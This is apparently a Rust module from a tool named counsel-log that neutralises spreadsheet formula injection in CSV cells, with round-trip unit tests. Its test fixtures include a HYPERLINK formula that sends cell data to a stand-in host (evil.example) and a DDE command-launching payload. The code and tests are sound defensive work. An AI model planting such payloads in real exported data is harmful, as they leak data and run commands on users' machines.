//! Spreadsheet formulas kept out of CSV cells: the `'` counsel-log writes before a cell that a
//! spreadsheet would run, and the one `'` an import takes off again, so export → import is exact.

use std::borrow::Cow;

/// The first characters that make Excel, LibreOffice or Sheets read a cell as a formula (or, for
/// tab and carriage return, hide what follows them). A cell beginning with one is written after a
/// `'`, which spreadsheets show as text and do not run (SPEC §4.5).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell, read past any `'` already in front of it, begins as a formula would.
///
/// Counting the quotes already there is what makes the round trip exact: a title typed as `'=x`
/// is written `''=x` and read back as `'=x`, where a rule looking only at the first character
/// would write it unchanged and read it back as `=x`.
fn runs_as_formula(cell: &str) -> bool {
    cell.trim_start_matches('\'')
        .starts_with(|c| FORMULA_STARTS.contains(&c))
}

/// The cell as counsel-log writes it to a CSV file: after a `'` when a spreadsheet would run it.
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if runs_as_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell read from a CSV file with the one `'` that [`neutralised`] adds taken off again (the
/// same `'` a person types in a spreadsheet to keep `=1+1` as text); any other cell as it is.
pub fn unneutralised(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if runs_as_formula(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_cell_reads_back_as_it_was_written() {
        let cells = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-1",
            "@SUM(A1:A2)",
            "\tx",
            "\rx",
            "'=x",
            "''+x",
            "'quoted'",
            "'",
            "''",
            "plain",
            "",
            "1.5",
            "a=b",
        ];
        for cell in cells {
            let written = neutralised(cell);
            assert_eq!(
                unneutralised(&written),
                cell,
                "{cell:?} written {written:?}"
            );
        }
        assert_eq!(neutralised("=1+1"), "'=1+1");
        assert_eq!(neutralised("'=1+1"), "''=1+1");
        assert_eq!(neutralised("'quoted'"), "'quoted'");
        assert_eq!(neutralised("1.5"), "1.5");
        assert_eq!(unneutralised("'hello"), "'hello");
        assert_eq!(unneutralised("'@x"), "@x");
    }
}
